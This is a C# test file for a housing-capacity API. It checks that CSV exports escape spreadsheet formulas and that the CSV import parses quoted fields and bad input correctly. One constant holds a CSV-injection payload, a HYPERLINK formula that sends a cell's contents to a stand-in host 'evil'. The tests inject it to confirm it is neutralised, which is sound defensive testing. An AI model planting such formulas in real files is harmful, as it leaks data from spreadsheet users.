using System.Text;
using HousingCapacity.Api.Reporting;
using HousingCapacity.Api.Security;
using HousingCapacity.Api.Tests.Pages;
using Microsoft.EntityFrameworkCore;

namespace HousingCapacity.Api.Tests;

/// <summary>
/// Issue 23, finding 9: every CSV the product writes goes through one writer that escapes text a spreadsheet would run as a
/// formula, and the capacity import reads through one reader that keeps a quoted field with the separator whole.
/// </summary>
public class CsvInjectionTests(ApiFixture api) : IClassFixture<ApiFixture>
{
    private const string Formula = "=HYPERLINK(\"http://evil/?x=\"&A1,\"Klik\")";

    /// <summary>The cells of a semicolon-separated file, as a spreadsheet would split them.</summary>
    private static List<string[]> Cells(byte[] bytes) => [.. CsvFile.Read(bytes).Select(r => r.Fields)];

    [Fact]
    public void Writer_EscapesFormulas_ButNotNumbers()
    {
        var bytes = CsvFile.Write(["a", "b", "c"], csv =>
        {
            csv.Row("=1+1", "+45 1234", "@SUM(A1)");
            csv.WriteField(-3.25, "0.##");
            csv.WriteField("-x");
            csv.WriteField("tekst; med semikolon");
            csv.EndRecord();
        });
        Assert.Equal(Encoding.UTF8.GetPreamble(), bytes[..3]);
        var rows = Cells(bytes);
        Assert.Equal(["'=1+1", "'+45 1234", "'@SUM(A1)"], rows[1]);
        Assert.Equal(["-3.25", "'-x", "tekst; med semikolon"], rows[2]);
    }

    [Fact]
    public async Task AccessLogExport_APurposeThatIsAFormula_IsText()
    {
        await using var db = api.NewDb();
        var person = await db.Persons.Where(p => p.MunicipalityId == 1).OrderBy(p => p.Id).Skip(5).FirstAsync();
        var read = new HttpRequestMessage(HttpMethod.Get, $"/odata/Persons({person.Id})");
        read.Headers.Add(AccessLog.PurposeHeader, Formula);
        Assert.Equal(HttpStatusCode.OK, (await api.OData.SendAsync(read)).Status);
        using var officer = await PageClient.SignedInAsync(api, Role.HousingOfficer);
        var csv = await officer.Http.GetByteArrayAsync($"/sagsbehandler/person/{person.Id}/adgangslog?handler=Csv");
        var purposes = Cells(csv).Skip(1).Select(r => r[6]).ToList();
        Assert.Contains("'" + Formula, purposes);
        Assert.DoesNotContain(purposes, p => p.StartsWith('='));
    }

    [Fact]
    public async Task CommitteeCsv_AFacilityNamedAsAFormula_IsText()
    {
        var make = new Builders(api);
        var facility = await make.FacilityAsync("EmergencyBeds");
        await make.UnitAsync(facility, 2);
        var renamed = await api.Admin.SendJsonAsync(HttpMethod.Patch, $"/odata/Facilities({facility})",
            $$"""{"Name":"{{Formula.Replace("\"", "\\\"")}}"}""");
        Assert.Equal(HttpStatusCode.NoContent, renamed.Status);
        var csv = await api.HttpAs(Role.Committee).GetByteArrayAsync("/reports/monthly/175/2026-11.csv");
        var items = Cells(csv).Skip(1).Select(r => r[1]).ToList();
        Assert.Contains("'" + Formula, items);
        Assert.DoesNotContain(items, i => i.StartsWith('='));
        // Figures stay numbers: a negative change is not escaped.
        Assert.DoesNotContain(Cells(csv).Skip(1).Select(r => r[3]), v => v.StartsWith("'", StringComparison.Ordinal)
            && double.TryParse(v[1..], out _));
    }

    [Fact]
    public async Task CapacityImport_AQuotedFieldWithTheSeparator_IsOneField()
    {
        var make = new Builders(api);
        var facility = await make.FacilityAsync("EmergencyBeds");
        await make.UnitAsync(facility, 4);
        // The header's quoted name holds the separator; each row's count is quoted, as Excel may write it.
        var content = new ByteArrayContent(Encoding.UTF8.GetBytes($"tilbud;\"dato; dag\";senge;belagte;ude af " +
            $"drift\r\n{facility};2026-11-10;\"4\";2;0\r\n"));
        content.Headers.ContentType = new("text/csv");
        var reply = await api.Staff(facility).SendAsync(new HttpRequestMessage(HttpMethod.Post,
            "/imports/capacity-reports") { Content = content });
        Assert.True(reply.Status == HttpStatusCode.OK, reply.Body);
        Assert.Equal(1, reply.Json.GetProperty("Created").GetInt32());
    }

    [Fact]
    public async Task CapacityImport_ManyBadRows_AnswersTheFirst100AndTheCount()
    {
        var make = new Builders(api);
        var facility = await make.FacilityAsync("EmergencyBeds");
        await make.UnitAsync(facility, 4);
        var text = string.Join("\n", Enumerable.Range(0, 1500).Select(i => $"{facility};x;4;2;0"));
        var content = new ByteArrayContent(Encoding.UTF8.GetBytes(text));
        content.Headers.ContentType = new("text/csv");
        var reply = await api.Staff(facility).SendAsync(new HttpRequestMessage(HttpMethod.Post,
            "/imports/capacity-reports") { Content = content });
        Assert.Equal((HttpStatusCode)422, reply.Status);
        Assert.Equal(100, reply.Json.GetProperty("error").GetProperty("details").GetArrayLength());
        Assert.Contains("1500", reply.ErrorMessage);
        Assert.True(reply.Body.Length < 40_000, $"{reply.Body.Length} bytes");
    }

    [Theory]
    [InlineData("multipart/form-data; boundary=abc",
        "--abc\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.csv\"\r\n\r\n1;2026-11-01;1")]
    [InlineData("multipart/form-data", "--abc\r\nContent-Disposition: form-data; name=\"file\"\r\n\r\nx\r\n--abc--\r\n")]
    public async Task CapacityImport_ABrokenForm_Is400(string contentType, string body)
    {
        var content = new ByteArrayContent(Encoding.UTF8.GetBytes(body));
        content.Headers.TryAddWithoutValidation("Content-Type", contentType);
        var reply = await api.Staff(1).SendAsync(new HttpRequestMessage(HttpMethod.Post,
            "/imports/capacity-reports") { Content = content });
        Assert.True(reply.Status == HttpStatusCode.BadRequest, $"{(int)reply.Status} {reply.Body}");
    }
}
